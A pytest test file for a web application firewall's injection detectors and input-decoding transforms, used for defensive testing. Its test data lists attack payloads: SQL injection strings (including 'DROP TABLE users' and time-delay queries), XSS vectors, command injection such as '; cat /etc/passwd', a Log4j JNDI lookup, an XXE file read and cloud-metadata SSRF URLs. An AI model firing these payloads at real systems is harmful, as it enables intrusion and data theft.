"""SQLi/XSS tokenizers, structural detectors and text transformations."""

from __future__ import annotations

import pytest

from bastion.rules.waf import detectors as d
from bastion.rules.waf import is_sqli, is_xss
from bastion.rules.waf.transformations import TRANSFORMS, deep_decode

SQLI = [
    "1' or '1'='1",
    "' OR 1=1--",
    "admin'--",
    "1 OR 1=1",
    "-1 UNION SELECT 1,2,3--",
    "'; DROP TABLE users; --",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version())))--",
    "1) or (1=1",
    "/*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "';WAITFOR DELAY '0:0:5'--",
    '" or ""="',
]
BENIGN_SQL = [
    "It's a great day, isn't it?",
    "O'Reilly Media",
    "Tom & Jerry",
    "Please call; drop me a line",
    "select your size",
    "union station",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "I need more sleep (about 8 hours)",
    "rock 'n' roll -- the best",
]


@pytest.mark.parametrize("p", SQLI)
def test_sqli_detected(p):
    assert is_sqli(p.lower())


@pytest.mark.parametrize("p", BENIGN_SQL)
def test_sqli_benign(p):
    assert not is_sqli(p, True)


def test_sqli_sensitivity():
    assert is_sqli("1 order by 3", True) and not is_sqli("1 order by 3", False)


@pytest.mark.parametrize(
    "p",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        '" onmouseover="alert(1)',
        "';alert(1)//",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
    ],
)
def test_xss_detected(p):
    assert any(is_xss(v) for v in deep_decode(p))


@pytest.mark.parametrize(
    "p",
    [
        "<b>bold</b>",
        "a < b and c > d",
        "<3 thanks",
        '<p><a href="https://example.com">x</a></p>',
        'He said "on time" -- OK',
    ],
)
def test_xss_benign(p):
    assert not is_xss(p)


def test_other_detectors():
    assert d.detect_cmdi("; cat /etc/passwd") and d.detect_cmdi("$(whoami)")
    assert not d.detect_cmdi("Use bash or zsh; echo is nice")
    assert d.detect_traversal("../../../etc/passwd") and not d.detect_traversal("/a/b/c.png")
    assert d.detect_lfi("/etc/passwd") and not d.detect_lfi("how do I edit /etc/passwd safely")
    assert d.detect_ssrf("http://169.254.169.254/latest/") and d.detect_ssrf("http://0x7f000001/")
    assert not d.detect_ssrf("https://www.example.com/cb")
    assert d.detect_log4j("${${lower:j}ndi:ldap://e.x/a}") and not d.detect_log4j("${name}")
    assert d.detect_xxe('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    assert d.detect_nosql('{"u": {"$ne": null}}') and d.detect_nosql("u[$ne]=1")
    assert d.detect_ssti("{{7*7}}") and not d.detect_ssti("Hello {{ user.name }}")


def test_transformations():
    t = TRANSFORMS
    assert t["URL_DECODE"]("a%20b+c") == "a b c"
    assert t["HTML_ENTITY_DECODE"]("&lt;&#x41;&#66;") == "<AB"
    assert t["CMD_LINE"]("C^at  /ETC/'pa'ss\\wd ;x") == "cat/etc/passwd x"
    assert t["COMPRESS_WHITE_SPACE"]("a \t\n b") == "a b"
    assert t["NORMALIZE_PATH"]("/a/./b/../c//d") == "/a/c/d"
    assert t["NORMALIZE_PATH_WIN"]("\\a\\..\\b") == "/b"
    assert t["BASE64_DECODE"]("aGVsbG8=") == "hello"
    assert t["HEX_DECODE"]("414243") == "ABC"
    assert t["JS_DECODE"]("\\u0041\\x42") == "AB"
    assert t["CSS_DECODE"]("\\41 b") == "Ab"
    assert t["SQL_HEX_DECODE"]("0x414243") == "ABC"
    assert t["REPLACE_COMMENTS"]("a/*x*/b") == "a b"
    assert t["REMOVE_NULLS"]("a\x00b") == "ab"
    assert t["URL_DECODE_UNI"]("%u0041%uff1c") == "A<"
    assert t["TRIM"]("  x ") == "x"
    assert t["ESCAPE_SEQ_DECODE"]("\\n\\x41") == "\nA"
    assert len(t["MD5"]("x")) == 16 and len(t["SHA256"]("x")) == 32
    assert "<script>" in deep_decode("%253Cscript%253E")
